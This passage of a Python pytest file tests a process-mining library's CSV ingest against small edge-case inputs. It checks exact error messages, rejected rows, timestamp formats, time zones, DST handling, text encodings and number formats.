"""Tiny hand-made bad and edge-case inputs, each with its exact expected outcome.

Every file under ``tests/files/ingest/`` is a few lines a reader can open; the
few that are binary (UTF-16, cp1252, NUL bytes, gzip, Parquet, Excel) are
written here from exact bytes.  Each test loads one file into a fresh
in-memory workspace and checks the whole outcome: the error class and its
message (file, row, column), or the counts, the rejects, the quality findings
and the stored values.  Row numbers are data rows: row 1 is the first line
after the header.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import gzip
import json
import re
import tempfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from mining.catalog import export_rejects
from mining.catalog import rejects as stored_rejects
from mining.errors import (
    AmbiguousMapping,
    AppendMismatch,
    BadEncoding,
    BadTimestamp,
    EmptyLog,
    IngestError,
    MissingColumn,
    Option,
    Phrase,
    TooManyRejects,
    UnsafeInput,
)
from mining.ingest import IngestOptions, ingest_file
from mining.schema import IngestSummary
from mining.store import Store
from tests.conftest import FILES

INGEST = FILES / "ingest"

#: The tables every workspace has after a load (attrs_1 only when a column is unmapped).
WORKSPACE_TABLES = {
    "_migrations",
    "logs",
    "ingest_runs",
    "events",
    "cases",
    "variants",
    "attribute_columns",
    "rejects",
    "quality",
}

NOT_ISO = "does not match the column's timestamp format ISO 8601"


# --------------------------------------------------------------------------- helpers


@pytest.fixture
def store():
    s = Store()
    yield s
    s.close()


def load(store: Store, file: str | Path, **options) -> IngestSummary:
    path = file if isinstance(file, Path) else INGEST / file
    return ingest_file(store, path, IngestOptions(**options))


def T(text: str) -> dt.datetime:
    """A UTC instant written as 'YYYY-MM-DD HH:MM'."""
    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC)


def counts(s: IngestSummary) -> tuple[int, int, int, int, int]:
    return (s.cases, s.events, s.activities, s.variants, s.rejected_rows)


def rejects_of(s: IngestSummary) -> list[tuple]:
    return [(r.row, r.column, r.reason, r.value) for r in s.rejects]


def quality_of(s: IngestSummary) -> dict[str, int]:
    return {q.kind: q.count for q in s.quality}


def events(store: Store) -> list[tuple]:
    return store.query("SELECT row_no, case_id, activity, ts FROM events ORDER BY row_no").rows


def timestamps(store: Store) -> list[tuple[int, dt.datetime]]:
    return store.query("SELECT row_no, ts FROM events ORDER BY row_no").rows


def attributes(store: Store, log_id: int = 1) -> tuple[list[str], list[tuple]]:
    """The unmapped columns as (header names, rows by row_no)."""
    names = [
        r[0]
        for r in store.query(
            "SELECT source_name FROM attribute_columns WHERE log_id = ? ORDER BY position", [log_id]
        ).rows
    ]
    rows = store.query(f'SELECT * FROM "attrs_{log_id}" ORDER BY row_no').rows
    return names, rows


def assert_workspace_empty(store: Store) -> None:
    for table in (
        "logs",
        "ingest_runs",
        "events",
        "cases",
        "variants",
        "rejects",
        "quality",
        "attribute_columns",
    ):
        assert store.scalar(f"SELECT count(*) FROM {table}") == 0, table


def table_names(store: Store) -> set[str]:
    return {r[0] for r in store.query("SELECT table_name FROM information_schema.tables").rows}


# --------------------------------------------------------------------------- files that must fail
#
# (file, options, error class, message fragments, hint fragment).  The
# workspace must be untouched afterwards.

FAILURES = [
    pytest.param("empty.csv", {}, EmptyLog, ["empty.csv is empty"], "no header and no rows", id="empty"),
    pytest.param(
        "header_only.csv", {}, EmptyLog, ["header_only.csv has a header but no rows"], None, id="header-only"
    ),
    pytest.param(
        "ambiguous_dates.csv",
        {},
        BadTimestamp,
        [
            "ambiguous_dates.csv: column 'timestamp' fits both %d/%m/%Y %H:%M and %m/%d/%Y %H:%M",
            "no day above 12 proves which is the day and which the month",
        ],
        "--dayfirst",
        id="ambiguous-day-month",
    ),
    pytest.param(
        "naive_local.csv",
        {"timezone": "Mars/Olympus"},
        BadTimestamp,
        ["unknown time zone 'Mars/Olympus'", "IANA name"],
        None,
        id="unknown-timezone",
    ),
    pytest.param(
        "role_override.csv",
        {"roles": {"case": "Tiket"}},
        MissingColumn,
        [
            "role_override.csv: no column 'Tiket' for --case; "
            "available columns: 'case_id', 'Ticket', 'activity', 'timestamp'"
        ],
        None,
        id="role-missing-column",
    ),
    pytest.param(
        "ambiguous_case.csv",
        {},
        AmbiguousMapping,
        ["ambiguous_case.csv: the case could be any of 'order_id', 'ticket_id'"],
        "pass --case COLUMN",
        id="ambiguous-case",
    ),
    pytest.param(
        "one_bad_in_ten.csv",
        {"max_rejects": 0.05},
        TooManyRejects,
        [
            "one_bad_in_ten.csv: 1 of 10 rows (10.0%) were rejected, more than the 5.0% allowed; nothing was loaded",
            f"one_bad_in_ten.csv, row 6, column 'timestamp': {NOT_ISO} (value 'yesterday')",
        ],
        "--max-rejects",
        id="too-many-rejects",
    ),
    pytest.param(
        "missing_values.csv",
        {},
        TooManyRejects,
        [
            "missing_values.csv: 5 of 10 rows (50.0%) were rejected",
            "missing_values.csv, row 2, column 'case_id': missing case id",
        ],
        "--max-rejects",
        id="missing-values-default-threshold",
    ),
]


@pytest.mark.parametrize(("file", "options", "error", "fragments", "hint"), FAILURES)
def test_bad_file_fails_cleanly(store, file, options, error, fragments, hint):
    with pytest.raises(error) as info:
        load(store, file, **options)
    assert type(info.value) is error
    message = str(info.value)
    for fragment in fragments:
        assert fragment in message
    if hint is None:
        assert info.value.hint is None
    else:
        assert hint in info.value.hint
    assert_workspace_empty(store)


def _in_other_words(option: Option) -> str:
    """How an edge other than the CLI might word an option (the app names its controls)."""
    return f"<{option.name}={option.value}>" if option.value else f"<{option.name}>"


@pytest.mark.parametrize(
    ("file", "options", "message", "hint"),
    [
        pytest.param(
            "role_override.csv",
            {"roles": {"case": "Tiket"}, "display_name": "{0}.csv"},
            "{0}.csv: no column 'Tiket' for <case>; available columns:",
            None,
            id="message-and-a-file-name-with-braces",
        ),
        pytest.param("ambiguous_case.csv", {}, None, "pass <case=COLUMN> to choose", id="role"),
        pytest.param(
            "ambiguous_dates.csv",
            {},
            None,
            "pass <dayfirst> or <monthfirst>, or <timestamp_format>",
            id="date-order",
        ),
        pytest.param(
            "one_bad_in_ten.csv",
            {"max_rejects": 0.05},
            None,
            "raise <max_rejects> (write them all with <rejects=FILE>)",
            id="rejects",
        ),
    ],
)
def test_messages_and_hints_name_options_for_each_edge_to_word(store, file, options, message, hint):
    with pytest.raises(IngestError) as info:
        load(store, file, **options)
    words = info.value.message_in(_in_other_words)
    assert message is None or message in words
    assert "--" not in words
    assert hint is None or hint in (info.value.hint_in(_in_other_words) or "")


def test_too_many_rejects_carries_every_reject(store):
    with pytest.raises(TooManyRejects) as info:
        load(store, "one_bad_in_ten.csv", max_rejects=0.05)
    assert [(r.file, r.row, r.column, r.value) for r in info.value.rejects] == [
        ("one_bad_in_ten.csv", 6, "timestamp", "yesterday")
    ]


# --------------------------------------------------------------------------- structure of the text


def test_ragged_rows_rejected_with_their_row_numbers(store):
    s = load(store, "ragged_rows.csv", max_rejects=0.5)
    assert counts(s) == (3, 5, 3, 3, 2)
    assert s.rows_read == 7
    assert rejects_of(s) == [
        (
            2,
            None,
            "ragged line: more fields than the header (expected: 3 found: 4)",
            "1,B,2024-01-01 11:00,extra",
        ),
        (4, None, "ragged line: fewer fields than the header (expected: 3 found: 2)", "2,B"),
    ]
    # Rows after a ragged one keep their place in the file.
    assert events(store) == [
        (1, "1", "A", T("2024-01-01 10:00")),
        (3, "2", "A", T("2024-01-02 10:00")),
        (5, "2", "C", T("2024-01-02 12:00")),
        (6, "3", "A", T("2024-01-03 10:00")),
        (7, "3", "B", T("2024-01-03 11:00")),
    ]
    # The workspace keeps the same rejects.
    assert [(r.file, r.row, r.column) for r in stored_rejects(store, s.log_id)] == [
        ("ragged_rows.csv", 2, None),
        ("ragged_rows.csv", 4, None),
    ]
    # Case 1 lost its second row to the ragged line: one event left.
    assert quality_of(s) == {"one_event_cases": 1}


def test_quoted_newline_is_one_row(store):
    s = load(store, "quoted_newline.csv")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert s.rows_read == 4
    assert [r[:3] for r in events(store)] == [(1, "1", "A"), (2, "1", "B"), (3, "2", "A"), (4, "2", "B")]
    names, rows = attributes(store)
    assert names == ["comment"]
    assert rows == [(1, "plain"), (2, "first line\nsecond line"), (3, 'say "hi"'), (4, None)]


def test_unterminated_quote_is_named(store):
    s = load(store, "unterminated_quote.csv", max_rejects=0.5)
    # The open quote swallows the rest of the file into row 4.
    assert counts(s) == (2, 3, 2, 2, 1)
    assert s.rows_read == 4
    assert rejects_of(s) == [
        (
            4,
            None,
            "a quoted field is never closed (unterminated quote)",
            '2,"B,2024-01-02 11:00\n3,A,2024-01-03 10:00\n3,B,2024-01-03 11:00\n',
        ),
    ]
    assert [r[0] for r in events(store)] == [1, 2, 3]


# --------------------------------------------------------------------------- timestamps


def test_mixed_formats_reject_the_minority(store):
    s = load(store, "mixed_date_formats.csv", max_rejects=0.2)
    assert counts(s) == (3, 5, 2, 2, 1)
    assert s.timestamp_formats == {"timestamp": "ISO 8601"}
    assert rejects_of(s) == [(4, "timestamp", NOT_ISO, "02/01/2024 11:00")]
    assert [r[0] for r in events(store)] == [1, 2, 3, 5, 6]


@pytest.mark.parametrize(
    ("dayfirst", "pattern", "expected", "variants"),
    [
        # Day-first, case 2 runs B (2 January) before A (1 February): two variants.
        pytest.param(
            True,
            "%d/%m/%Y %H:%M",
            ["2024-04-03 10:00", "2024-04-05 11:00", "2024-02-01 09:00", "2024-01-02 09:30"],
            2,
            id="dayfirst",
        ),
        pytest.param(
            False,
            "%m/%d/%Y %H:%M",
            ["2024-03-04 10:00", "2024-05-04 11:00", "2024-01-02 09:00", "2024-02-01 09:30"],
            1,
            id="monthfirst",
        ),
    ],
)
def test_ambiguous_dates_read_as_told(store, dayfirst, pattern, expected, variants):
    s = load(store, "ambiguous_dates.csv", dayfirst=dayfirst)
    assert counts(s) == (2, 4, 2, variants, 0)
    assert s.timestamp_formats == {"timestamp": pattern}
    assert timestamps(store) == [(i, T(v)) for i, v in enumerate(expected, start=1)]


def test_ambiguous_dates_read_with_timestamp_format(store):
    # The BadTimestamp hint offers --timestamp-format: it must work without --timestamp.
    s = load(store, "ambiguous_dates.csv", timestamp_format="%m/%d/%Y %H:%M")
    assert s.mapping.timestamp == "timestamp"
    assert s.timestamp_formats == {"timestamp": "%m/%d/%Y %H:%M"}
    assert timestamps(store) == [
        (1, T("2024-03-04 10:00")),
        (2, T("2024-05-04 11:00")),
        (3, T("2024-01-02 09:00")),
        (4, T("2024-02-01 09:30")),
    ]


def test_day_above_twelve_proves_dayfirst_for_every_row(store):
    s = load(store, "dayfirst_proven.csv")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert s.timestamp_formats == {"timestamp": "%d/%m/%Y %H:%M"}
    # 03/04/2024 is 3 April, like 13/04/2024 is 13 April.
    assert timestamps(store) == [
        (1, T("2024-04-03 10:00")),
        (2, T("2024-04-13 11:00")),
        (3, T("2024-02-01 09:00")),
        (4, T("2024-03-02 09:30")),
    ]


@pytest.mark.parametrize(
    ("text", "pattern", "read"),
    [
        # DuckDB's cast reads 13/01/26 as 26 January of the year 13: the column passed for ISO 8601.
        pytest.param(
            "case,activity,timestamp\n1,Open,13/01/26 09:00\n1,Close,14/01/26 17:30\n2,Open,02/03/26 08:15\n",
            "%d/%m/%y %H:%M",
            ["2026-01-13 09:00", "2026-01-14 17:30", "2026-03-02 08:15"],
            id="two-digit-years",
        ),
        # Finnish "klo" and a clock with dots: refused before ("cannot tell which column is the timestamp").
        pytest.param(
            "Tapaus;Tapahtuma;Aikaleima\nT-1;Avattu;13.3.2026 klo 9.05\nT-1;Suljettu;2.10.2026 klo 17.30\n"
            "T-2;Avattu;14.3.2026 klo 10.15\n",
            "%d.%m.%Y klo %H.%M",
            ["2026-03-13 09:05", "2026-10-02 17:30", "2026-03-14 10:15"],
            id="finnish-klo",
        ),
        # German Excel writes the day's fraction after a comma: refused before (found by the fuzzer).
        pytest.param(
            "Vorgang;Aktivität;Zeitstempel\nV1;Prüfung;45717,4274305556\nV1;Freigabe;45718,375\nV2;Prüfung;45719\n",
            "Excel serial days",
            ["2025-03-01 10:15:30", "2025-03-02 09:00", "2025-03-03 00:00"],
            id="excel-decimal-comma",
        ),
    ],
)
def test_a_time_column_is_read_in_its_format(store, tmp_path, text, pattern, read):
    path = tmp_path / "times.csv"
    path.write_text(text)
    s = load(store, path)
    assert s.timestamp_formats == {"timestamp": pattern}
    assert timestamps(store) == [(i, T(t)) for i, t in enumerate(read, start=1)]


@pytest.mark.parametrize(
    ("stray", "timezone"),
    [
        pytest.param("13/01/26 11:00", None, id="utc"),
        pytest.param("13/01/26 11:00", "Europe/Berlin", id="local"),
        pytest.param("13/01/26 11:00+01:00", None, id="with-offset"),
        pytest.param("26-01-13 11:00", None, id="year-last-dashes"),
    ],
)
def test_a_stray_two_digit_year_in_an_iso_column_is_rejected_not_dated_in_the_year_13(
    store, tmp_path, stray, timezone
):
    # The rest of the column is ISO 8601; DuckDB's cast alone would store the stray value 2,000 years off.
    path = tmp_path / "stray.csv"
    path.write_text(
        "case,activity,timestamp\n1,A,2026-01-13 09:00\n1,B,2026-01-13 10:00\n2,A,2026-01-14 09:00\n"
        f"2,B,{stray}\n3,A,2026-01-15 09:00\n3,B,2026-01-15 10:00\n"
    )
    s = load(store, path, max_rejects=0.5, timezone=timezone)
    assert s.timestamp_formats == {"timestamp": "ISO 8601"}
    assert (s.events, s.rejected_rows) == (5, 1)
    (reject,) = s.rejects
    assert str(reject) == (
        f"stray.csv, row 4, column 'timestamp': does not match the column's timestamp format ISO 8601 "
        f"(value {stray!r})"
    )
    # Before, the stray value was the log's first moment, in the year 13.
    assert store.scalar("SELECT min(ts) FROM events") == T(
        "2026-01-13 08:00" if timezone else "2026-01-13 09:00"
    )


def test_cli_rejects_counts_one_row_as_one(tmp_path):
    from click.testing import CliRunner

    from mining.cli import cli

    path = tmp_path / "stray.csv"
    path.write_text(
        "case,activity,timestamp\n1,A,2026-01-13 09:00\n1,B,13/01/26 11:00\n2,A,2026-01-14 09:00\n"
    )
    ws = str(tmp_path / "ws.duckdb")
    assert CliRunner().invoke(cli, ["-w", ws, "ingest", str(path), "--max-rejects", "0.5"]).exit_code == 0
    out = CliRunner().invoke(cli, ["-w", ws, "rejects", "stray"]).output.splitlines()
    assert out == [
        "stray.csv, row 2, column 'timestamp': does not match the column's timestamp format ISO 8601 "
        "(value '13/01/26 11:00')",
        "1 rejected row",
    ]


def test_two_digit_years_without_a_day_above_twelve_are_a_question(store, tmp_path):
    path = tmp_path / "yy_ambiguous.csv"
    path.write_text("case,activity,timestamp\n1,Open,01/02/26 09:00\n1,Close,03/04/26 17:30\n")
    with pytest.raises(BadTimestamp, match="fits both %d/%m/%y %H:%M and %m/%d/%y %H:%M"):
        load(store, path)
    load(store, path, dayfirst=False)
    assert timestamps(store) == [(1, T("2026-01-02 09:00")), (2, T("2026-03-04 17:30"))]


@pytest.mark.parametrize(
    ("first", "second", "pattern"),
    [
        pytest.param("05/Dec/26 9:03 AM", "07/Dec/26 2:40 PM", "%d/%b/%y %I:%M %p", id="jira"),
        pytest.param("05-DEC-26", "07-DEC-26", "%d-%b-%y", id="oracle"),
        pytest.param("Dec 5, 2026 9:03 AM", "Dec 7, 2026 2:40 PM", "%b %d, %Y %I:%M %p", id="us-words"),
        pytest.param("5 December 2026 09:03", "7 December 2026 14:40", "%d %B %Y %H:%M", id="long-month"),
        # Year first with slashes: DuckDB's own cast reads it right.
        pytest.param("2026/12/05 09:03", "2026/12/07 14:40", "ISO 8601", id="year-first"),
        pytest.param("2026.12.05 09:03", "2026.12.07 14:40", "%Y.%m.%d %H:%M", id="year-first-dots"),
        pytest.param("2026-12-05 9:03 AM", "2026-12-07 2:40 PM", "%Y-%m-%d %I:%M %p", id="iso-date-12h"),
        pytest.param("20261205090300", "20261207144000", "%Y%m%d%H%M%S", id="compact"),
        # a.m. and p.m. as Spanish Excel writes them (a no-break space inside), and against the time.
        pytest.param(
            "2026-12-05 9:03 a.\u00a0m.", "2026-12-07 2:40 p.\u00a0m.", "%Y-%m-%d %I:%M %p", id="es-pm"
        ),
        pytest.param("2026-12-05 9:03 a.m.", "2026-12-07 2:40 p.m.", "%Y-%m-%d %I:%M %p", id="ca-pm"),
        pytest.param("2026-12-05 9:03AM", "2026-12-07 2:40PM", "%Y-%m-%d %I:%M %p", id="pm-against-time"),
        # ISO 8601's decimal comma, as log4j writes it: refused before.
        pytest.param("2026-12-05 09:03:00,000", "2026-12-07 14:40:00,0", "%Y-%m-%d %H:%M:%S,%f", id="log4j"),
        # A clock with dots, as Finnish and Danish exports write it: refused before.
        pytest.param("2026.12.05 09.03.00", "2026.12.07 14.40.00", "%Y.%m.%d %H.%M.%S", id="dotted-clock"),
        pytest.param(
            "Sat, 05 Dec 2026 10:03:00 +0100",
            "Mon, 07 Dec 2026 15:40:00 +0100",
            "%a, %d %b %Y %H:%M:%S %z",
            id="rfc2822",
        ),
        # An offset after a space: Ruby and Rails, Twitter's API, git's log.  Refused before.
        pytest.param(
            "2026-12-05 10:03:00 +0100", "2026-12-07 15:40:00 +01:00", "%Y-%m-%d %H:%M:%S %z", id="ruby"
        ),
        pytest.param(
            "2026/12/05 04:03:00 -0500", "2026/12/07 09:40:00 -0500", "%Y/%m/%d %H:%M:%S %z", id="rails"
        ),
        pytest.param(
            "Sat Dec 05 09:03:00 +0000 2026",
            "Mon Dec 07 14:40:00 +0000 2026",
            "%a %b %d %H:%M:%S %z %Y",
            id="twitter",
        ),
        pytest.param(
            "Sat Dec 5 10:03:00 2026 +0100",
            "Mon Dec 7 15:40:00 2026 +0100",
            "%a %b %d %H:%M:%S %Y %z",
            id="git",
        ),
    ],
)
def test_dates_whose_order_is_never_in_doubt_are_found(store, tmp_path, first, second, pattern):
    path = tmp_path / "named.csv"
    path.write_text(f'case,activity,timestamp\n1,Open,"{first}"\n1,Close,"{second}"\n')
    s = load(store, path)
    assert s.timestamp_formats == {"timestamp": pattern}
    day_one, day_two = timestamps(store)
    assert (day_one[1].date(), day_two[1].date()) == (dt.date(2026, 12, 5), dt.date(2026, 12, 7))
    if ":" in first or pattern == "%Y%m%d%H%M%S":  # the offset +0100 is honoured: 10:03 there is 09:03 UTC
        assert (day_one[1].time(), day_two[1].time()) == (dt.time(9, 3), dt.time(14, 40))


def test_user_timestamp_format(store):
    s = load(store, "custom_format.csv", timestamp_format="%Y.%m.%d-%Hh%M")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert s.mapping.timestamp == "timestamp"
    assert s.mapping.timestamp_format == "%Y.%m.%d-%Hh%M"
    assert timestamps(store) == [
        (1, T("2024-01-05 10:30")),
        (2, T("2024-01-05 11:45")),
        (3, T("2024-02-06 09:00")),
        (4, T("2024-02-07 17:15")),
    ]


@pytest.mark.parametrize(
    ("timezone", "naive_row"),
    [
        pytest.param("UTC", "2024-06-01 12:00", id="utc"),
        pytest.param("Europe/Berlin", "2024-06-01 10:00", id="berlin"),
    ],
)
def test_offsets_are_honoured(store, timezone, naive_row):
    s = load(store, "offsets.csv", timezone=timezone)
    assert counts(s) == (2, 4, 2, 1, 0)
    assert s.timezone == timezone
    assert timestamps(store) == [
        (1, T("2024-06-01 08:00")),  # +02:00
        (2, T("2024-06-01 16:00")),  # -0600
        (3, T("2024-06-01 08:00")),  # Z
        (4, T(naive_row)),  # no offset: read in the log's zone
    ]


NAIVE_WARNING = "timestamps without an offset in 'timestamp' were read as UTC"


@pytest.mark.parametrize(
    ("stamps", "warned"),
    [
        pytest.param(["2024-06-01T08:00:00Z", "2024-06-01 10:00:00+02:00"], False, id="iso-with-offsets"),
        pytest.param(["2024-06-01T08:00:00Z", "2024-06-01 12:00:00"], True, id="iso-one-naive"),
        pytest.param(["2024-06-01", "2024-06-02"], True, id="iso-dates"),
        pytest.param(["1717228800", "1717232400"], False, id="unix-seconds"),
        pytest.param(["06/13/2024 10:00", "06/14/2024 11:00"], True, id="month-first"),
    ],
)
def test_naive_warning_counts_values_without_an_offset(store, tmp_path, stamps, warned):
    path = tmp_path / "stamps.csv"
    path.write_text("case_id,activity,timestamp\n" + "".join(f"1,A{i},{t}\n" for i, t in enumerate(stamps)))
    s = load(store, path)
    naive = [w for w in s.warnings if str(w).startswith(NAIVE_WARNING)]
    assert bool(naive) is warned, s.warnings
    # The app words the option as its own control: the warning names it, not a flag in the text.
    assert all(isinstance(w, Phrase) and w.options == (Option("timezone"),) for w in naive)
    # The verdict is the log's: a re-ingest of the same file repeats it; a chosen zone silences it.
    again = load(store, path)
    assert again.status == "unchanged"
    assert any(str(w).startswith(NAIVE_WARNING) for w in again.warnings) is warned
    chosen = load(store, path, name="chosen", timezone="UTC")
    assert not [w for w in chosen.warnings if str(w).startswith(NAIVE_WARNING)]


def test_offsets_beyond_fourteen_hours_are_rejected_with_the_reason(store, tmp_path):
    path = tmp_path / "far_offsets.csv"
    path.write_text(
        "case,activity,timestamp\n1,A,2024-01-01T10:00:00+01:00\n1,B,2024-01-01T11:00:00+14:00\n"
        "2,A,2024-01-01T10:00:00+15:00\n2,B,2024-01-01T10:00:00-1800\n3,A,2024-01-01T10:00:00Z\n"
        "3,B,2024-01-01T10:30:00-12:00\n"
    )
    s = load(store, path, max_rejects=0.5)
    why = "is beyond +/-14:00: no time zone is that far from UTC"
    assert rejects_of(s) == [
        (3, "timestamp", f"offset +15:00 {why}", "2024-01-01T10:00:00+15:00"),
        (4, "timestamp", f"offset -18:00 {why}", "2024-01-01T10:00:00-1800"),
    ]
    # +14:00 (Kiribati) and -12:00 are real zones.
    assert timestamps(store) == [
        (1, T("2024-01-01 09:00")),
        (2, T("2023-12-31 21:00")),
        (5, T("2024-01-01 10:00")),
        (6, T("2024-01-01 22:30")),
    ]


def test_naive_times_in_a_named_zone(store):
    s = load(store, "naive_local.csv", timezone="Europe/Berlin")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert s.timezone == "Europe/Berlin"
    assert timestamps(store) == [
        (1, T("2024-01-15 09:00")),  # CET, +01:00
        (2, T("2024-07-15 08:00")),  # CEST, +02:00
        (3, T("2024-01-16 08:00")),
        (4, T("2024-07-16 07:00")),
    ]


DST_LOCAL = [
    "2024-03-31 01:30",
    "2024-03-31 02:30",
    "2024-03-31 03:05",
    "2024-10-27 01:30",
    "2024-10-27 02:30",
    "2024-10-27 03:05",
    "2024-05-01 10:00",
    "2024-05-01 11:00",
    "2024-05-01 12:00",
]


def test_dst_gap_and_overlap_default_policy(store):
    s = load(store, "dst_gap_overlap.csv", timezone="Europe/Berlin")
    assert counts(s) == (3, 9, 3, 2, 0)
    assert quality_of(s) == {"dst_gap": 1, "dst_overlap": 1}
    expected = [
        T("2024-03-31 00:30"),
        T("2024-03-31 01:30"),  # 02:30 does not exist: read with +01:00, i.e. 03:30 summer time
        T("2024-03-31 01:05"),
        T("2024-10-26 23:30"),
        T("2024-10-27 00:30"),  # 02:30 happens twice: the first, +02:00
        T("2024-10-27 02:05"),
        T("2024-05-01 08:00"),
        T("2024-05-01 09:00"),
        T("2024-05-01 10:00"),
    ]
    assert timestamps(store) == list(enumerate(expected, start=1))
    # The docstring's contract: the same as zoneinfo with fold=0.
    berlin = ZoneInfo("Europe/Berlin")
    assert expected == [
        dt.datetime.fromisoformat(v).replace(tzinfo=berlin).astimezone(dt.UTC) for v in DST_LOCAL
    ]


def test_dst_gap_and_overlap_rejected(store):
    s = load(store, "dst_gap_overlap.csv", timezone="Europe/Berlin", dst="reject", max_rejects=0.3)
    assert counts(s) == (3, 7, 3, 2, 2)
    assert rejects_of(s) == [
        (2, "timestamp", "wall time does not exist in Europe/Berlin (DST gap)", "2024-03-31 02:30"),
        (5, "timestamp", "wall time occurs twice in Europe/Berlin (DST overlap)", "2024-10-27 02:30"),
    ]
    assert quality_of(s) == {}
    assert [r[0] for r in timestamps(store)] == [1, 3, 4, 6, 7, 8, 9]


# --------------------------------------------------------------------------- encodings and dialects

UMLAUT_ROWS = [
    (1, "1", "Prüfung", T("2024-01-01 10:00")),
    (2, "1", "Café", T("2024-01-01 11:00")),
    (3, "2", "Prüfung", T("2024-01-02 10:00")),
    (4, "2", "Café", T("2024-01-02 11:00")),
]


def test_utf8_with_bom(store):
    assert (INGEST / "utf8_bom.csv").read_bytes().startswith(codecs.BOM_UTF8)
    s = load(store, "utf8_bom.csv")
    assert counts(s) == (2, 4, 2, 1, 0)
    assert s.mapping.case == "case_id"  # not "\ufeffcase_id"
    assert events(store) == UMLAUT_ROWS


def test_utf16_le_with_bom_tab_separated(store, tmp_path):
    text = (
        "case_id\tactivity\ttimestamp\n1\tPrüfung\t2024-01-01 10:00\n1\tCafé\t2024-01-01 11:00\n"
        "2\tPrüfung\t2024-01-02 10:00\n2\tCafé\t2024-01-02 11:00\n"
    )
    path = tmp_path / "utf16.tsv"
    path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    s = load(store, path)
    assert counts(s) == (2, 4, 2, 1, 0)
    assert (s.mapping.case, s.mapping.activity, s.mapping.timestamp) == ("case_id", "activity", "timestamp")
    assert events(store) == UMLAUT_ROWS


def test_utf16_without_bom_is_named_as_the_likely_problem(store, tmp_path):
    path = tmp_path / "utf16_nobom.tsv"
    path.write_bytes(
        "case_id\tactivity\ttimestamp\n1\tA\t2024-01-01 10:00\n1\tB\t2024-01-01 11:00\n".encode("utf-16-le")
    )
    with pytest.raises(BadEncoding) as info:
        load(store, path)
    assert str(info.value) == (
        "utf16_nobom.tsv: read as utf-8 (as detected), the text is nonsense: 50% of its first characters are "
        "control or unassigned characters; the NUL bytes suggest UTF-16 without a byte-order mark (try "
        "utf-16-le or utf-16-be)"
    )
    assert info.value.hint == "the encoding is likely wrong: pass --encoding with the file's own"
    assert_workspace_empty(store)
    # Told the encoding, the same bytes load.
    assert counts(load(store, path, encoding="utf-16-le")) == (1, 2, 2, 1, 0)


def test_japanese_excel_csv_is_read_as_cp932_not_korean(store, tmp_path):
    # Its bytes also decode as valid Korean (cp949), which charset-normalizer ranked first.
    rows = ["番号,活動,時刻,担当者"] + [
        f"A-{i // 4},{['受付', '確認', '承認', '発送'][i % 4]},2026-03-{1 + i // 4:02d} {9 + i % 4}:00,"
        f"{['佐藤', '鈴木', '高橋', '田中'][i % 3]}"
        for i in range(40)
    ]
    path = tmp_path / "ja.csv"
    path.write_bytes(("\n".join(rows) + "\n").encode("cp932"))
    s = load(store, path, roles={"case": "番号", "activity": "活動"})
    assert counts(s) == (10, 40, 4, 1, 0)
    assert store.query("SELECT DISTINCT activity FROM events ORDER BY 1").rows == [
        ("受付",),
        ("承認",),
        ("発送",),
        ("確認",),
    ]
    # Korean written in cp949 stays Korean.
    korean = tmp_path / "ko.csv"
    korean.write_text(
        "번호,활동,시간\nA-1,접수,2026-03-01 09:00\nA-1,확인,2026-03-01 10:00\n", encoding="cp949"
    )
    with Store() as other:
        load(other, korean, roles={"case": "번호", "activity": "활동"})
        assert other.query("SELECT activity FROM events ORDER BY row_no").rows == [("접수",), ("확인",)]


def test_utf8_read_as_a_single_byte_encoding_is_refused(store, tmp_path):
    path = tmp_path / "umlauts.csv"
    path.write_text("case_id,activity,timestamp\n1,Prüfung,2024-01-01 10:00\n1,B,2024-01-01 11:00\n")
    with pytest.raises(BadEncoding) as info:
        load(store, path, encoding="cp1252")
    assert str(info.value) == (
        "umlauts.csv is UTF-8 text (its accented letters are valid UTF-8); read as cp1252 'ü' would become 'Ã¼'"
    )


def test_utf8_read_as_utf16_is_nonsense(store, tmp_path):
    path = tmp_path / "plain.csv"
    # An even number of bytes, so every pair decodes as some UTF-16 character.
    path.write_text("case,activity,timestamp\n" + "".join(f"{i:02},A,2024-01-01 10:00\n" for i in range(20)))
    assert path.stat().st_size % 2 == 0
    with pytest.raises(BadEncoding) as info:
        load(store, path, encoding="utf-16-le")
    assert str(info.value) == (
        "plain.csv: read as utf-16-le (as asked), the text is nonsense: 9% of its first characters are control "
        "or unassigned characters"
    )


def test_cp1252_semicolon_decimal_comma(store, tmp_path):
    text = (
        "case_id;activity;timestamp;cost;Größe\r\n"
        "1;Prüfung;15.01.2024 10:00;1.234,56;5 €\r\n"
        "1;Café;15.01.2024 11:30;12,5;naïve\r\n"
        "2;Prüfung;16.01.2024 09:00;0,99;\r\n"
        "2;Café;16.01.2024 17:45;7;Straße\r\n"
    )
    path = tmp_path / "cp1252.csv"
    path.write_bytes(text.encode("cp1252"))
    s = load(store, path)
    assert counts(s) == (2, 4, 2, 1, 0)
    assert s.mapping.cost == "cost"
    assert s.timestamp_formats == {"timestamp": "%d.%m.%Y %H:%M"}
    assert store.query("SELECT row_no, activity, ts, cost FROM events ORDER BY row_no").rows == [
        (1, "Prüfung", T("2024-01-15 10:00"), 1234.56),
        (2, "Café", T("2024-01-15 11:30"), 12.5),
        (3, "Prüfung", T("2024-01-16 09:00"), 0.99),
        (4, "Café", T("2024-01-16 17:45"), 7.0),
    ]
    assert attributes(store) == (["Größe"], [(1, "5 €"), (2, "naïve"), (3, None), (4, "Straße")])


@pytest.mark.parametrize(
    ("written", "read"),
    [
        # US and UK exports group thousands with commas: read as 1.23456 (every value grouped) or
        # rejected as "not a number" (some not) before.
        pytest.param(
            ["1,234.56", "2,500.00", "12,000.10", "1,000.00"], [1234.56, 2500, 12000.1, 1000], id="us"
        ),
        pytest.param(["1,234.56", "25.00", "12,000.10", "3.50"], [1234.56, 25, 12000.1, 3.5], id="us-mixed"),
        pytest.param(["1,234", "2,000", "12,000", "1,500"], [1234, 2000, 12000, 1500], id="us-whole"),
        pytest.param(["1.234,56", "12,5", "3,75", "1.000,00"], [1234.56, 12.5, 3.75, 1000], id="eu"),
        pytest.param(["12,5", "3,75", "0,99", "7"], [12.5, 3.75, 0.99, 7], id="eu-small"),
